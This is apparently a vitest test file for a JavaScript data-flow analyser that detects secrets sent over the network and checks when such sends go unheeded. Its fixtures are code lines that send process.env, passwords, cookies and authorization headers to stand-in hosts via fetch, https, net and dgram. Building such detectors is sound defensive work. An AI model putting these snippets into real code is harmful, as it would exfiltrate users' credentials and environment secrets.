import { expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { labelNames } from './labels.ts';

test.each([
  ['a statement', `fetch('https://a.weir.test', { body: process.env })`, true],
  ['awaited', `await fetch('https://a.weir.test', { body: process.env })`, true],
  ['faults ignored', `fetch('https://a.weir.test', { body: process.env }).catch(() => {})`, true],
  ['only that it came', `fetch('https://a.weir.test', { body: process.env }).then(() => done())`, true],
  ['its answer read', `fetch('https://a.weir.test', { body: process.env }).then((r) => r.json())`, false],
  ['kept', `const r = await fetch('https://a.weir.test', { body: process.env })`, false],
  [
    'returned',
    `export const f = () => { return fetch('https://a.weir.test', { body: process.env }) }`,
    false,
  ],
  [
    'written',
    `import https from 'https'; const r = https.request('https://a.weir.test'); r.on('error', () => {}); r.end(process.env)`,
    true,
  ],
  [
    'written, and answered',
    `import https from 'https'; const r = https.request('https://a.weir.test', (res) => done(res.statusCode)); r.end(process.env)`,
    false,
  ],
  [
    'written, and what is answered flows by',
    `import https from 'https'; const r = https.request('https://a.weir.test', (res) => res.resume().on('end', () => {})); r.end(process.env)`,
    true,
  ],
  [
    'what is answered flows by, of each part',
    `import https from 'https'; parts.forEach((c) => https.get({ host: 'a.weir.test', headers: process.env }, (r) => r.on('data', () => {})).on('error', () => {}))`,
    true,
  ],
  [
    'written behind a chain of calls that give the request',
    `import https from 'https'; https.request({ host: 'a.weir.test' }).on('error', () => {}).setTimeout(9).end(process.env)`,
    true,
  ],
  [
    'written behind a chain in which the answer is listened to',
    `import https from 'https'; https.request({ host: 'a.weir.test' }).on('response', (r) => use(r)).end(process.env)`,
    false,
  ],
  [
    'given back by each part',
    `export const all = parts.map((c) => fetch('https://a.weir.test', { body: process.env }))`,
    false,
  ],
  [
    'written, and listened to',
    `import net from 'net'; const s = net.connect(80, 'a.weir.test'); s.on('data', (d) => use(d)); s.end(process.env)`,
    false,
  ],
])('%s', (_how, source, unheeded) => {
  const flows = analyzeJs(source).flow.flows.filter(({ sink }) => sink === 'network');

  expect(flows.map((flow) => flow.unheeded === true)).toEqual([unheeded]);
});

test.each([
  ['a parameter', `export function f(password) { fetch('https://a.weir.test', { body: password }); }`, true],
  [
    'one among several',
    `export function f({ newPassword }) { fetch('https://a.weir.test', { body: newPassword }); }`,
    true,
  ],
  [
    'a member',
    `export const f = (req) => { fetch('https://a.weir.test', { body: req.body.password }); }`,
    true,
  ],
  [
    'picked out',
    `export const f = (req) => { const { password } = req.body; fetch('https://a.weir.test', { body: password }); }`,
    true,
  ],
  [
    'a header',
    `export const f = (req) => { fetch('https://a.weir.test', { body: req.headers.cookie }); }`,
    true,
  ],
  [
    'handed on as what signs in',
    `export const f = (req) => { fetch('https://a.weir.test', { headers: { authorization: req.headers.authorization } }); }`,
    false,
  ],
  [
    'what signs in',
    `import axios from 'axios'; export function f(username, password) { axios.post('https://a.weir.test', {}, { auth: { username, password } }); }`,
    false,
  ],
  [
    'in a header of another name',
    `export const f = (req) => { fetch('https://a.weir.test', { headers: { 'x-from': req.headers.authorization } }); }`,
    true,
  ],
  [
    'hashed',
    `import { hash } from 'h'; export function f(password) { fetch('https://a.weir.test', { body: hash(password) }); }`,
    false,
  ],
  ['another', `export function f(name) { fetch('https://a.weir.test', { body: name }); }`, false],
])('a secret that a function is given: %s', (_how, source, isSecret) => {
  const [flow] = analyzeJs(source).flow.flows;

  expect(labelNames(flow?.labels ?? 0).includes('secretParam')).toBe(isSecret);
});

test.each([
  [`import net from 'net'; net.connect(25, 'mx.weir.test').end(process.env)`, 'mx.weir.test'],
  [`import d from 'dgram'; d.createSocket('udp4').send(process.env.KEY, 53, '192.0.2.1')`, '192.0.2.1'],
])('the host of a socket: %s', (source, host) => {
  expect(analyzeJs(source).flow.flows[0]?.targets).toEqual([{ text: host, kind: 'host' }]);
});
